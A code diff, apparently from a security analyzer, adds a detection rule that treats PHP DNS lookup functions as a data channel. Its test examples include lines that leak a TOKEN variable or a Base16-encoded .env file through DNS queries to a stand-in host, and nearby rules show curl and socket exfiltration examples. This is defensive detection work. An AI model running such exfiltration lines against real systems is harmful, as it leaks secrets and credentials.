@@ -130,6 +130,10 @@ var phpRules = [...]rule{
 		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); !> send:http https://x.example/c` + "\n" +
 		`$c = curl_init("https://api.example.com/x"); curl_setopt($c, CURLOPT_CUSTOMREQUEST, "DELETE"); => destroy:http https://api.example.com/x` + "\n" +
 		`$c = curl_init("https://api.example.com/x"); curl_setopt($c, CURLOPT_CUSTOMREQUEST, "PUT"); !> destroy:http https://api.example.com/x` + "\n"},
+	// A name looked up goes to the resolver and on to the domain's name servers (a DNS channel).
+	{name: "gethostbyname|gethostbynamel|dns_get_record|checkdnsrr|dns_check_record|getmxrr", do: aFetch, ex: `gethostbyname(getenv("TOKEN") . ".x.example"); => var:send TOKEN` + "\n" +
+		`gethostbyname(bin2hex(file_get_contents(".env")) . ".x.example"); => read:send .env` + "\n" +
+		`gethostbyname("example.com"); !> var:send TOKEN` + "\n"},
 	{name: "curl_exec", do: aFetch, ex: `$c = curl_init("https://x.example/?k=" . getenv("TOKEN")); curl_exec($c); => var:send TOKEN` + "\n" +
 		`$c = curl_init("https://example.com"); curl_exec($c); !> send:http https://example.com` + "\n"},
 	{name: "fsockopen|stream_socket_client|pfsockopen", do: aConnect, opt: "raw", ret: rSocket, ex: `$s = fsockopen("203.0.113.3", 80); fwrite($s, json_encode($_ENV)); => env:send` + "\n" +
